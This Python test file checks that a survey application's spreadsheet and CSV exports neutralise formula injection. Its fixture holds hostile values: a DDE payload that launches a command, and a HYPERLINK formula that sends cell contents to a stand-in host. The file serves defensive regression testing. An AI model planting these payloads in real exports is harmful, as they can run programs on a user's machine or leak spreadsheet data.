"""The application's exports carry a respondent's or a roster's ``=…`` as text (issue 13, finding 2).

The answers export (with names) and the « sans réponse » list are downloaded as
the pilot gets them, then opened with openpyxl (no formula cell), read as ODS XML (string
cells) and as CSV (neutralised with an apostrophe).
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from defusedxml import ElementTree
from django.contrib.auth import get_user_model
from django.urls import reverse

from bilan.core.models import Membership, Role
from bilan.roster.models import Referent
from bilan.surveys.exports import export_answers
from bilan.surveys.models import Invitation, Response, ResponseStatus

ANSWER = "=cmd|' /C calc'!A0"
NAME = '=HYPERLINK("http://exemple.test/?"&A1;"Cliquez")'
FIRST = "+2+3"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


@pytest.fixture
def hostile(enquete_campaign, schools):
    """One sent answer with a formula as comment, from a referent whose name is a formula, and one
    invited referent named the same way who has not answered."""
    school = schools["college"]
    for index, answered in enumerate((True, False)):
        referent = Referent.objects.create(first_name=FIRST, last_name=NAME, email=f"piege{index}@ac-poitiers.fr")
        invitation = Invitation.objects.create(campaign=enquete_campaign, referent=referent, school=school,
                                               school_type=school.type, departement_code="86")
        if answered:
            Response.objects.create(campaign=enquete_campaign, invitation=invitation, school_type="college",
                                    departement_code="86", status=ResponseStatus.SUBMITTED,
                                    answers={"ROLE": "college", "SATISF": 5, "HEURES": -1.5, "COMMENT": ANSWER})
    return enquete_campaign


def _xlsx_cells(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _ods_strings(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read("content.xml"))
    cells = list(root.iter("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell"))
    assert not [c for c in cells if c.get("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula")]
    return {"".join(p.text or "" for p in c.iter(f"{TEXT}p")): c.get(f"{OFFICE}value-type") for c in cells}


def _csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_the_answers_export_writes_answers_and_names_as_text(hostile):
    cells = _xlsx_cells(export_answers(hostile, "xlsx", personal=True)[2])
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    assert by_value[ANSWER].data_type == by_value[NAME].data_type == by_value[FIRST].data_type == "s"
    assert by_value[-1.5].data_type == "n"  # a negative number stays a number

    strings = _ods_strings(export_answers(hostile, "ods", personal=True)[2])
    assert strings[ANSWER] == strings[NAME] == strings[FIRST] == "string"
    assert strings["-1.5"] == "float"

    rows = _csv_rows(export_answers(hostile, "csv", personal=True)[2])
    record = dict(zip(rows[0], rows[-1], strict=True))
    assert record["COMMENT"] == "'" + ANSWER and record["nom"] == "'" + NAME and record["prénom"] == "'" + FIRST
    assert record["HEURES"] == "-1,5"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_the_list_of_those_without_an_answer_writes_names_as_text(client, hostile, fmt):
    pilot = get_user_model().objects.create(username="pilote")
    Membership.objects.create(user=pilot, academie=hostile.academie, role=Role.PILOT)
    client.force_login(pilot)
    response = client.get(reverse("outreach:export", args=[hostile.slug, fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        rows = _csv_rows(response.content)
        assert ["'" + FIRST, "'" + NAME] in [row[5:7] for row in rows]
    elif fmt == "xlsx":
        cells = _xlsx_cells(response.content)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert {c.data_type for c in cells if c.value in (NAME, FIRST)} == {"s"}
    else:
        strings = _ods_strings(response.content)
        assert strings[NAME] == strings[FIRST] == "string"
